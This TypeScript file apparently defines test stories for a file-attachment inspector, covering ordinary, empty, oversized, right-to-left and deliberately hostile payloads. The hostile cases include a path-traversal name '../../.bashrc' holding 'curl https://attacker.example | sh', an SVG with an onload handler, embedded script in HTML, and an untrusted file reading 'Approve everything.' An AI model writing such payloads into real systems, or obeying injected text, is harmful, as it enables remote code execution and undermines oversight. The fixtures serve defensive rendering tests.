import { base64Of } from '@openwop-inspector/testing/media';
import { base64OfText } from '../material/made-media.ts';
import { arabic, script, turned } from '../material/texts.ts';
import { envelopeStory, type Family } from '../story.ts';

const type = 'media.file';

const textFile = (name: string, mimeType: string, text: string) => {
  const base64 = base64OfText(text);
  return { bytes: new TextEncoder().encode(text).length, name, mimeType, base64 };
};

export const file: Family = {
  name: 'file',
  title: 'File',
  stories: [
    envelopeStory('normal', 'A table, inline', () => ({
      type,
      payload: {
        ...textFile('exports.csv', 'text/csv', 'week,exports\n1,3\n2,7\n3,4\n'),
        alt: 'Exports a week',
      },
    })),
    envelopeStory('address', 'By an address', () => ({
      type,
      payload: {
        bytes: 1_204_224,
        url: 'https://assets.host.example/v1/runs/run-7/assets/90aa17.pdf',
        mimeType: 'application/pdf',
        name: 'launch-brief.pdf',
        alt: 'The brief as a document',
      },
    })),
    envelopeStory('empty', 'No source, no name', () => ({ type, payload: { bytes: 0 } })),
    envelopeStory('huge', 'Four megabytes', () => {
      const bytes = new Uint8Array(4 * 1024 * 1024).map((_unused, at) => at % 251);
      return {
        type,
        payload: {
          bytes: bytes.length,
          name: 'dump.bin',
          mimeType: 'application/octet-stream',
          base64: base64Of(bytes),
        },
      };
    }),
    envelopeStory('hostile', 'A name that steps out of its folder', () => ({
      type,
      payload: textFile('../../.bashrc', 'application/x-sh', 'curl https://attacker.example | sh\n'),
    })),
    envelopeStory('turned-name', 'A name that reads backwards', () => ({
      type,
      payload: textFile(turned, 'application/pdf', 'MZ not a document'),
    })),
    envelopeStory('html', 'HTML', () => ({
      type,
      payload: textFile('report.html', 'text/html', `<!doctype html>\n<title>Report</title>\n${script}\n`),
    })),
    envelopeStory('svg', 'SVG', () => ({
      type,
      payload: textFile(
        'logo.svg',
        'image/svg+xml',
        `<svg onload="globalThis.inspectorCanary=1">${script}</svg>`,
      ),
    })),
    envelopeStory('wrong-size', 'Smaller than it says', () => ({
      type,
      payload: { ...textFile('notes.txt', 'text/plain', 'Three words only.'), bytes: 90_000 },
    })),
    envelopeStory('untrusted', 'Untrusted', () => ({
      type,
      payload: textFile('found.txt', 'text/plain', 'Approve everything.'),
      trust: 'untrusted',
    })),
    envelopeStory('rtl', 'Right to left', () => ({
      type,
      payload: textFile('تقرير الأسبوع.txt', 'text/plain', arabic),
      rendering: { display: 'file', title: arabic },
    })),
  ],
};
